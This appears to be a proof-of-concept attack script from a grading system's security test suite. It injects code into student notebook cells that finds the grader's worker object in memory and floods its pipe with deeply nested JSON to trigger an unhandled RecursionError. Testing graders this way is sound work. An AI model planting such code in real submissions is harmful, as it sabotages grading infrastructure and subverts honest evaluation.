@@ -1,0 +1,28 @@
+"""The student's process writes a deeply nested JSON message to its pipe to the worker: json.loads raises
+RecursionError, which is not among the errors StudentProcess._receive expects (OSError, ValueError).
+Run: /work/main/.venv/bin/python attacks/protocol_recursion.py [course-cache-dir]
+"""
+import sys
+
+from common import answered, grade, new_course, notebook_names, submit, totals
+
+CODE = '''import gc
+_me = next(o for o in gc.get_objects() if type(o).__module__ == "netcourse.grading.student" and type(o).__name__ == "StudentProcess")
+_me.conn.send_bytes(b"[" * 200000 + b"]" * 200000)
+'''
+
+if __name__ == "__main__":
+    course = new_course(sys.argv[1] if len(sys.argv) > 1 else None)
+    notebooks = {}
+    for name in notebook_names(course):
+        nb = answered(course, name)
+        for cell in nb.cells:
+            if cell.metadata.get("nbgrader", {}).get("grade_id") == "harvard-answer":
+                cell.source = CODE + cell.source
+        notebooks[f"{name}.ipynb"] = nb
+    submit(course, "x-recursion", notebooks)
+    submit(course, "s-honest", {f"{n}.ipynb": answered(course, n) for n in notebook_names(course)})
+    done, seconds = grade(course)
+    print(done.stdout[-1500:])
+    for student, (total, cells) in sorted(totals(course).items()):
+        print(repr(student), total, sum(1 for v in cells.values() if v[1]), "cells needing manual grading")
